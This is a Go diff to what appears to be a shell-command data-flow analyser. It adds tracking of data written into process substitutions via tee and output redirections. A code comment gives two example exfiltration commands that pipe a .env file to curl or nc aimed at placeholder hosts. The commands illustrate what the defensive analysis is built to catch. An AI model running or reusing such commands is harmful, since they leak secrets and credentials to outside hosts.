@@ -1543,7 +1543,48 @@ func (a *analysis) buildCall(s *syntax.Stmt, x *syntax.CallExpr, origin string, 
 	a.unwrap(c)
 	c.setName()
 	a.envArgs(c)
+	a.feedOutputSubsts(s, x, c)
 	return c
+}
+
+// feedOutputSubsts walks again, with what they are given, the process
+// substitutions a command writes to: tee's arguments get its input (tee
+// >(curl --data-binary @- URL) < .env), an output redirection's target
+// the command's output (cat .env > >(nc HOST PORT)). Their first walk,
+// when the words were expanded, gave them nothing to read.
+func (a *analysis) feedOutputSubsts(s *syntax.Stmt, x *syntax.CallExpr, c *cmd) {
+	outSubst := func(w *syntax.Word) *syntax.ProcSubst {
+		if w == nil || len(w.Parts) != 1 {
+			return nil
+		}
+		if ps, ok := w.Parts[0].(*syntax.ProcSubst); ok && ps.Op == syntax.CmdOut {
+			return ps
+		}
+		return nil
+	}
+	feed := func(ps *syntax.ProcSubst, in flow) {
+		if in.kind == flowUnknown || in.kind == flowNone {
+			return
+		}
+		saved, savedIn := a.cwd, a.inherit
+		a.inherit = in
+		a.wantOut++
+		a.walkStmts(ps.Stmts, "process substitution")
+		a.wantOut--
+		a.cwd, a.inherit = saved, savedIn
+	}
+	if c.name == "tee" {
+		for _, w := range x.Args {
+			if ps := outSubst(w); ps != nil {
+				feed(ps, c.in)
+			}
+		}
+	}
+	for _, r := range s.Redirs {
+		if ps := outSubst(r.Word); ps != nil && (r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.ClbOut) && (r.N == nil || r.N.Value == "1") {
+			feed(ps, a.computeOut(c))
+		}
+	}
 }
 
 // envArgs adds the arguments a program takes from its environment to its
